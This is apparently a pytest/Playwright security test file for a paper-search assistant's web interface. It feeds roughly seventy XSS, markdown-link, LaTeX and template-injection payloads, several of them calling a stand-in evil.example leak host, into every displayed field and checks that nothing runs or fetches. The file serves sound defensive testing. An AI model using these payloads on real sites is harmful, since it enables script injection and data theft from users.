"""What strangers write, through the real page: nothing of it runs, asks another host for anything, or is lost.

The entries of `tests/injection` and the payloads below stand in every place a paper, a model, a person or a file name
has: title, authors, category, abstract, summary, answer (streamed in pieces), notice, question, error, title of a
conversation, name of a model.
"""

from __future__ import annotations

import asyncio
import json
import random
from collections.abc import AsyncGenerator, Iterator, Sequence
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect
from served import serving
from stand_ins import ScriptedAssistant, Visit, first_sentence

from assistant.answer import (
    EXTRACTIVE,
    Answer,
    Claim,
    Conversation,
    Delta,
    Event,
    Finished,
    Found,
    Hit,
    Query,
    Searched,
    Support,
    Wants,
    Why,
)
from assistant.errors import AssistantError
from ingest.library import Library, open_library
from ingest.paper import Filters, Language, Paper
from ingest.run import ingest
from ingest.settings import IngestSettings
from ingest.source import find_sources
from tests.conftest import WordEmbedder
from tests.injection.hostile import HOSTILE as ENTRIES
from tests.injection.hostile import page as digest_of
from ui.visitor import COOKIE

RUN = "window.ran=(window.ran||'')+"  # what a payload would do; it leaves a trace
LEAK = "https://evil.example/leak"
PAYLOADS = (
    f"<script>{RUN}1</script>",
    f"<SCRIPT SRC={LEAK}.js></SCRIPT>",
    f"<img src=x onerror={RUN}2>",
    f'<img src="{LEAK}.png">',
    f"<img/src=`x`onerror={RUN}3>",
    f"<svg/onload={RUN}4>",
    f"<svg><script>{RUN}5</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}6"><text>x</text></a></svg>',
    f"<svg><animate onbegin={RUN}7 attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}8>",
    f'<iframe src="javascript:{RUN}9"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}10</script>"></iframe>',
    f'<object data="{LEAK}"></object><embed src="{LEAK}">',
    f'<link rel=stylesheet href="{LEAK}.css"><base href="{LEAK}/">',
    f"<style>@import '{LEAK}.css'; * {{ display: none }}</style>",
    f"<body onload={RUN}11><details open ontoggle={RUN}12>",
    f"<input autofocus onfocus={RUN}13><select autofocus onfocus={RUN}14>",
    f'<form action="{LEAK}"><button formaction="javascript:{RUN}15">x</button></form>',
    f"<video><source onerror={RUN}16></video><audio src={LEAK}.mp3 autoplay>",
    f"<marquee onstart={RUN}17>x</marquee><div onmouseover={RUN}18 style='position:fixed;inset:0'>x</div>",
    f'<a href="javascript:{RUN}19">x</a><a href="data:text/html,<script>{RUN}20</script>">y</a>',
    f'<meta http-equiv="refresh" content="0; url={LEAK}">',
    "<template><p>in a template</p></template><noscript><p title='</noscript><img src=x>'>",
    f"</title></textarea></style></script><img src=x onerror={RUN}21>",
    f'"><img src=x onerror={RUN}22>',
    f"' onmouseover='{RUN}23' x='",
    f'" onfocus="{RUN}24" autofocus x="',
    f"--><script>{RUN}25</script><!--",
    f"]]><script>{RUN}26</script><![CDATA[",
    f"&lt;script&gt;{RUN}27&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}28&#62;",
    f"\\u003cimg src=x onerror={RUN}29\\u003e",
    f"<scr<script>ipt>{RUN}30</scr</script>ipt>",
    f"<img src=x one\0rror={RUN}31>",
    f"＜script＞{RUN}32＜/script＞",
    f"![x]({LEAK}.png)",
    f"![x][leak]\n\n[leak]: {LEAK}.png",
    f"[![x]({LEAK}.png)](javascript:{RUN}33)",
    f"[x](javascript:{RUN}34)",
    f"[x](JaVaScRiPt&colon;{RUN}35)",
    f"[x](  java\tscript:{RUN}36)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)[y](vbscript:x)",
    f'[x]({LEAK} "title")',
    f"<{LEAK}> <javascript:{RUN}37>",
    "[2512.00001](https://arxiv.org.evil.example/abs/2512.00001)",
    "[x](https://arxiv.org@evil.example/abs/2512.00001)",
    "[x](//evil.example/leak) [y](\\\\evil.example\\leak)",
    f'[x](https://arxiv.org/abs/2512.00001"onmouseover="{RUN}38)',
    f"`<script>{RUN}39</script>`",
    f"```html\n<script>{RUN}40</script>\n```\n",
    f"    <script>{RUN}41</script>",
    f"| <img src=x onerror={RUN}42> |\n|---|\n| <script>{RUN}43</script> |",
    f"# <img src=x onerror={RUN}44>\n\n> quote\n\n- item\n\n---",
    f"$\\href{{javascript:{RUN}45}}{{x}}$",
    f"$$\\includegraphics{{{LEAK}.png}}$$",
    "\\(\\htmlData{x=y}{z} \\htmlStyle{display:none}{z}\\)",
    f"$\\unicode{{<img src=x onerror={RUN}46>}}$ $</span><script>{RUN}47</script>$",
    "$ an open formula, \\( and another, \\begin{matrix} and \\def\\x{\\x\\x}",
    f"{{{{7*7}}}} ${{{RUN}48}} #{{x}} <%= x %> {{% raw %}} {{0.__class__}} %s %(x)s",
    f"[^1]\n\n[^1]: {LEAK}",
    "‮ reversed ⁦ and isolated, zero​width﻿, a long " + "w" * 300,
    "a<b and c>d, x<y<z, 3 < 4 > 2, <3, <-, <=>, </>, <!, <?php, & &amp &amp; &#x41; &copy",
    '{"__type__": "update", "value": "x"} [object Object] null undefined NaN __proto__',
    "<claim>0</claim> \ue000c0\ue001 \ue000f0\ue001 \x02 \x03 \x1b[31m",
    "</div></div></div></main></body></html><h1>another page</h1>",
    '<div id="header" class="answer"></div><a name="conversations"></a><form id="digest"><input name="words"></form>',
)

NAMES = [f"{number}" for number in range(len(PAYLOADS))]


def around(place: str, number: int) -> str:
    """A payload between what must still be seen before and after it."""
    return f"before{place}{number} {PAYLOADS[number]} after{place}{number}"


def record_of(number: int) -> str:
    """An entry of a digest that holds one payload in every field."""
    fields = ("tldr", "motivation", "method", "result", "conclusion")
    return json.dumps(
        {
            "id": f"2510.{number + 1:05}",
            "title": around("title", number),
            "authors": [around("author", number), "Ada Stone"],
            "categories": ["cs.LG", PAYLOADS[number]],
            "summary": f"It begins. {around('abstract', number)} ends here.",
            "AI": {field: around(field, number) for field in fields},
        }
    )


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Library]:
    """All of it as digests, in files with such names too, read as any other."""
    folder = tmp_path_factory.mktemp("digests")
    named = folder / f"2025-11-29 <img src=x onerror={RUN}99>\"'&.jsonl"
    named.write_text("\n".join(map(record_of, range(len(PAYLOADS)))), encoding="utf-8")
    entries = digest_of(ENTRIES)
    (folder / entries.name).write_text(entries.text, encoding="utf-8")
    settings = IngestSettings(home=tmp_path_factory.mktemp("hostile"))
    with open_library(settings, WordEmbedder()) as library:
        ingest(find_sources([str(path) for path in sorted(folder.iterdir())]), library)
        assert library.count() == len(PAYLOADS) + len(ENTRIES)
        yield library


class HostileModel:
    """A language model whose name and place somebody chose."""

    name = around("model", 2)
    where = around("where", 0)


class HostileAssistant(ScriptedAssistant):
    """Cites every paper that a question names by number, and says all of what is in it, a few letters at a time."""

    model = HostileModel()

    def __init__(self, library: Library) -> None:
        super().__init__(library)  # type: ignore[arg-type]
        self.papers = sorted(library.papers(library.select(Filters())).values(), key=lambda paper: paper.arxiv_id)

    async def stream(
        self,
        question: str,
        conversation: Conversation | None = None,
        filters: Filters | None = None,
        k: int | None = None,
        only: bool = False,
    ) -> AsyncGenerator[Event, None]:
        query = Query(question, question, Wants.SURVEY, Language.ENGLISH, Filters())
        first, last = (int(part) for part in question.split()[1].split("-"))
        hits = tuple(_hit(paper, rank) for rank, paper in enumerate(self.papers[first:last], 1))
        searched = Searched(len(hits), len(self.papers), "2025-11-29", "2025-11-30", 0.01)
        yield Found(query, hits, searched)
        if "fail" in question:
            raise AssistantError(" ".join(around("error", number) for number in range(len(PAYLOADS))))
        claims = tuple(_claim(hit.paper) for hit in hits)
        text = "\n\n".join(f"{claim.text}\n\n{hit.paper.abstract}" for claim, hit in zip(claims, hits, strict=True))
        for piece in _pieces(text):
            yield Delta(piece)
            await asyncio.sleep(0.0005)
        ids = tuple(hit.paper.arxiv_id for hit in hits)
        notice = " ".join(around("notice", number) for number in range(len(PAYLOADS)))
        yield Finished(Answer(text, claims, ids, hits, query, searched, False, EXTRACTIVE, {}, notice))

    def opening_questions(self, language: Language) -> tuple[str, ...]:
        return tuple(around("opening", number) for number in range(0, len(PAYLOADS), 20))

    def follow_ups(self, conversation: Conversation) -> tuple[str, ...]:
        return tuple(around("following", number) for number in range(0, len(PAYLOADS), 20))


def _hit(paper: Paper, rank: int) -> Hit:
    return Hit(paper, 1.0, rank, 0.8, Why(1.0, 0.6, 0.7, (PAYLOADS[rank % len(PAYLOADS)],), best=first_sentence(paper)))


def _claim(paper: Paper) -> Claim:
    evidence = first_sentence(paper)
    return Claim(f"{evidence.text} [{paper.arxiv_id}]({paper.url})", (evidence,), Support.QUOTED)


def _pieces(text: str) -> Iterator[str]:
    chance, at = random.Random(5), 0
    while at < len(text):
        length = chance.choice((1, 2, 5, 30, 400, 900))
        yield text[at : at + length]
        at += length


@pytest.fixture(scope="module")
def stage(library: Library) -> Iterator[str]:
    with serving(HostileAssistant(library), library) as address:
        yield address


# --- looking -----------------------------------------------------------------------------------------------------

_FORBIDDEN = (
    "img, script, iframe, object, embed, form, style, link, meta, base, video, audio, input, svg script, template"
)
_FOUND = """([places, forbidden]) => {
  const found = [];
  for (const root of document.querySelectorAll(places)) {
    for (const element of [root, ...root.querySelectorAll("*")]) {
      if (element !== root && element.matches(forbidden)) found.push(element.outerHTML.slice(0, 200));
      for (const { name, value } of element.attributes) {
        if (/^on/.test(name) || /^\\s*(javascript|data|vbscript):/i.test(value)) found.push(`${name}=${value}`);
      }
      if (element.href && new URL(element.href).origin !== location.origin &&
          !/^https:\\/\\/arxiv\\.org\\/(abs|pdf)\\//.test(element.href)) found.push(`leads to ${element.href}`);
    }
  }
  return found;
}"""


def nothing_ran(page: Page, places: str, also_allowed: str = "") -> None:
    """No trace of a payload, and nothing of theirs in the page that could become one."""
    assert page.evaluate("window.ran") is None
    forbidden = ", ".join(tag for tag in _FORBIDDEN.split(", ") if tag not in also_allowed.split(", "))
    assert page.evaluate(_FOUND, [places, forbidden]) == []


def missing(shown: str, places: Sequence[str], numbers: Sequence[int]) -> list[str]:
    """The marks that are not to be seen."""
    marks = [f"{side}{place}{number}" for place in places for number in numbers for side in ("before", "after")]
    return [mark for mark in marks if mark not in shown]


def opened(page: Page) -> None:
    page.evaluate("document.querySelectorAll('details').forEach(details => { details.open = true })")


def ask(page: Page, question: str) -> None:
    page.locator("#box textarea").fill(question)
    page.locator("#box textarea").press("Enter")


def test_there_are_more_than_a_hundred_of_them() -> None:
    assert len(set(PAYLOADS)) + len({entry.abstract for entry in ENTRIES}) >= 200


def test_answers_and_sources_show_everything_and_run_nothing(stage: str, visit: Visit, library: Library) -> None:
    page = visit(stage)
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    opened_at, size = library.count(), 66
    everything_missing: list[str] = []
    for exchange, first in enumerate(range(0, opened_at, size)):
        ask(page, f"papers {first}-{first + size} of all")
        expect(page.locator(f".exchange-{exchange} .searched")).to_be_visible(timeout=30_000)
        opened(page)
        answer = page.locator(f".exchange-{exchange}").inner_text()
        sources = page.locator("#papers").inner_text()
        nothing_ran(page, ".answer, #papers, #next, #kept, #footer, #header", "svg, form")
        numbers = [number for number in range(len(PAYLOADS)) if first <= number < first + size]
        everything_missing += missing(answer, ["abstract"], numbers)
        everything_missing += missing(answer, ["notice"], range(len(PAYLOADS)))
        everything_missing += missing(sources, ["title", "author", "abstract", "tldr", "method", "conclusion"], numbers)
        for entry in ENTRIES[max(0, first - len(PAYLOADS)) : first + size - len(PAYLOADS)]:
            counts = (answer.count(entry.name), sources.count(entry.name))
            # In the answer twice or more, before and after what was written to mislead; in the sources by title, too.
            if counts[0] < 2 or counts[1] < 3:
                everything_missing.append(f"{entry.kind} {entry.name} {counts}")
    footer = page.locator("#footer").inner_text()
    everything_missing += missing(footer, ["model"], [2]) + missing(footer, ["where"], [0])
    assert everything_missing == []


def test_questions_errors_and_titles_of_conversations_show_everything_and_run_nothing(
    stage: str, visit: Visit, library: Library
) -> None:
    page = visit(f"{stage}/?q=" + quote(f"papers 0-1 fail {around('link', 2)} {around('link', 38)}"))
    expect(page.locator(".exchange-0 .problem")).to_be_visible()
    assert missing(page.locator(".exchange-0 .problem").inner_text(), ["error"], range(len(PAYLOADS))) == []
    assert missing(page.get_by_test_id("user").first.inner_text(), ["link"], [2, 38]) == []
    lost: list[str] = []
    for exchange, first in enumerate(range(0, len(PAYLOADS), 17), start=1):
        numbers = list(range(first, min(first + 17, len(PAYLOADS))))
        ask(page, "papers 0-1 " + "\n\n".join(around("question", number) for number in numbers))
        expect(page.locator(f".exchange-{exchange} .searched")).to_be_visible()
        lost += missing(page.get_by_test_id("user").last.inner_text(), ["question"], numbers)
    # A question may show a link that its own writer typed, but nothing is fetched for it.
    assert page.evaluate("window.ran") is None
    theirs = page.locator("[data-testid=user] :is(img, script, iframe, object, embed, form, style)")
    assert theirs.evaluate_all("found => found.map(one => one.outerHTML)") == []
    assert lost == []
    owner = next(cookie["value"] for cookie in page.context.cookies() if cookie["name"] == COOKIE)
    for number in range(len(PAYLOADS)):
        library.save_conversation(f"conversation-{number:020}", around("kept", number), "{}", owner)
    page.reload()
    listed = page.locator("#conversations nav")
    expect(listed).to_contain_text("beforekept0")
    titles = " ".join(
        listed.locator(".title").all_text_contents()
    )  # those below the edge are drawn when they are reached
    assert [number for number in range(len(PAYLOADS)) if f"beforekept{number} " not in titles] == []
    nothing_ran(page, "#conversations", "input, svg")


@pytest.mark.parametrize("at", ["/library", "/zh/library"])
def test_the_library_page_shows_everything_and_runs_nothing(
    stage: str, visit: Visit, library: Library, at: str
) -> None:
    context = visit(stage).context
    page = context.new_page()
    problems: list[str] = []
    page.on("request", lambda asked: problems.append(asked.url) if stage not in asked.url else None)
    page.on("dialog", lambda dialog: problems.append(dialog.message))
    seen = ""
    for number in range(1, 7):
        page.goto(f"{stage}{at}?page={number}")
        opened(page)
        assert page.evaluate("window.ran") is None
        seen += page.locator("body").inner_text()
    lost = [number for number in range(len(PAYLOADS)) if f"beforetitle{number} " not in seen]
    lost += [number for number in range(len(PAYLOADS)) if f"aftertitle{number}" not in seen]
    assert lost == []
    assert all(entry.name in seen for entry in ENTRIES)
    assert "onerror=" in seen  # the name of the file, as text
    assert problems == []
